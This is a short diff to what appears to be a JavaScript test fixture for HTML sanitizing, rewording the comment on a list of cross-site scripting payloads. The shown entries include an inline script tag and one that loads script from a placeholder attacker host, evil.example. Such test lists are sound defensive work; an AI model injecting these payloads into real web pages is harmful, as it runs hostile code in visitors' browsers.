@@ -1,4 +1,4 @@
-/** Attempts to get a script, an attribute or a URL into the output, by the part of the HTML that they target. */
+/** Attempts to get a script, an attribute or a URL into the output, grouped by the part of the HTML they target. */
 const PAYLOADS = [
   '<script>hit()</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
